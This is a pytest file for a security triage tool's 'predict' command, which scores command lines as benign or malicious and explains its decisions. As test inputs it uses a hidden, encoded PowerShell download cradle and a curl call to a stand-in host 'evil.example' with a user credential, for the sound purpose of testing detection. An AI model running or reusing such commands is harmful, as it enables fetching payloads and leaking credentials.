"""`sftsec predict`: what the live model says of a text, and why."""

from __future__ import annotations

import json

import pytest
import yaml
from click.testing import CliRunner, Result

from sftsec_core.cli import cli
from sftsec_core.config.settings import Settings
from tests.core.cli.invoke import error_of, invoke, json_of, printed
from tests.e2e.site import Site

ATTACK = "powershell -nop -w hidden -enc SQBFAFgA downloadstring"


def enable(site: Site, *names: str) -> None:
    settings = yaml.safe_load(site.config.read_text("utf-8"))
    settings["plugins"] = [*Settings().plugins, *names]
    site.config.write_text(yaml.safe_dump(settings), "utf-8")


def typed(site: Site, lines: str, *options: str) -> Result:
    command = ["-c", str(site.config), "predict", "triage", "-", *options]
    return CliRunner().invoke(cli, command, input=lines)


class TestPredict:
    def test_says_what_scoring_would(self, site: Site) -> None:
        rows = [
            json.loads(line)
            for line in (site.folder / "incidents" / "open.jsonl").read_text("utf-8").splitlines()
        ]
        result = typed(site, "".join(f"{json.dumps(row)}\n" for row in rows), "--json")
        found = json.loads(result.stdout)["predictions"]
        site.run("score", "triage")
        lines = site.output.read_text("utf-8").splitlines()
        rows_pushed = [json.loads(line) for line in lines]
        pushed = {row["sftsec.incident.uid"]: row["sftsec.probability"] for row in rows_pushed}
        alerts = {
            row["id"]: each["probability"]
            for row, each in zip(rows, found, strict=True)
            if each["decision"] == "alert"
        }
        assert alerts.keys() == {uid.rpartition("#")[2] for uid in pushed}
        assert sorted(alerts.values()) == pytest.approx(sorted(pushed.values()), abs=1e-6)

    def test_gives_calibrated_probabilities(self, site: Site) -> None:
        (found,) = json_of(site, "predict", "triage", ATTACK)["predictions"]
        assert set(found["probabilities"]) == {"benign", "malicious"}
        assert sum(found["probabilities"].values()) == pytest.approx(1)
        assert found["explanation"] is None
        shown = printed(site, "predict", "triage", ATTACK)
        assert shown == (
            f"{found['decision']}  {found['label']}  probability {found['probability']:.4f}, "
            f"alerts from {found['threshold']:.4f}\n"
        )

    def test_reads_numbers_of_any_length(self, site: Site) -> None:
        texts = ("9" * 5000, "1234567890123456789012", '["a\\udc00", 123456789012345678901]')
        lines = "".join(f'{{"process.command_line": {text}}}\n' for text in texts)
        found = json.loads(typed(site, lines, "--json").stdout)["predictions"]
        read = [each["text"] for each in found]
        assert [*read[:2], read[2][:5]] == ["9" * 5000, "1234567890123456789012", '["a?"']

    def test_names_the_record_that_is_too_deep(self, site: Site) -> None:
        deep = '{"process.command_line": ' + "[" * 3000 + "]" * 3000 + "}\n"
        result = typed(site, '{"process.command_line": "x"}\n' + deep)
        assert "record 2: nested deeper than 64 levels" in str(result.exception)

    def test_redacts_and_keeps_nothing(self, site: Site) -> None:
        (found,) = json_of(site, "predict", "triage", "mail anna@shop.example now")["predictions"]
        assert "anna@shop" not in json.dumps(found)
        with site.store() as store:
            assert store.outbox.pending("incidents") == 0
            assert {run.kind for run in store.runs.list("triage")} == {"retrain"}

    def test_asks_for_what_it_can_read(self, site: Site) -> None:
        assert "nothing that the model reads" in str(
            error_of(site, "predict", "triage", "--field", "host.name=web")
        )
        assert invoke(site, "predict", "triage").exit_code == 2
        assert invoke(site, "predict", "triage", "--field", "nonsense").exit_code == 2
        result = typed(site, '{"message": "a text"\n')
        assert result.exit_code == 0, "an unfinished object is a text"


class TestWhy:
    @pytest.fixture
    def explaining(self, site: Site) -> Site:
        enable(site, "explain")
        return site

    def test_names_words_fields_and_neighbours(self, explaining: Site) -> None:
        (found,) = json_of(
            explaining, "predict", "triage", "--field", f"process.command_line={ATTACK}", "--why"
        )["predictions"]
        why = found["explanation"]
        assert (why["label"], why["method"]) == (found["label"], "exact")
        for each in why["attributions"]:
            start, end = each["span"]
            assert each["input"] == "process.command_line"
            assert ATTACK[start:end] == each["words"]
        assert why["neighbours"], "the newest data set has labelled incidents"
        assert {each["label"] for each in why["neighbours"]} <= {"benign", "malicious"}

    def test_is_shown_in_words_and_figures(self, explaining: Site) -> None:
        given = f"process.command_line={ATTACK} [b]x\x1b[31m"
        shown = printed(explaining, "predict", "triage", "--field", given, "--why")
        lines = shown.splitlines()
        assert lines[1].startswith("  because of `")
        assert any(line.endswith("(process.command_line)") for line in lines)
        assert "\x1b" not in "".join(lines)

    def test_explains_the_redacted_text(self, explaining: Site) -> None:
        given = "curl http://evil.example -u anna@shop.example"
        (found,) = json_of(explaining, "predict", "triage", given, "--why")["predictions"]
        assert "anna@shop" not in json.dumps(found)

    def test_asks_for_a_plugin_that_says_why(self, site: Site) -> None:
        found = str(error_of(site, "predict", "triage", ATTACK, "--why"))
        assert found.endswith(
            "no enabled plugin says why: set plugins: [core, files, pii, explain]"
        )
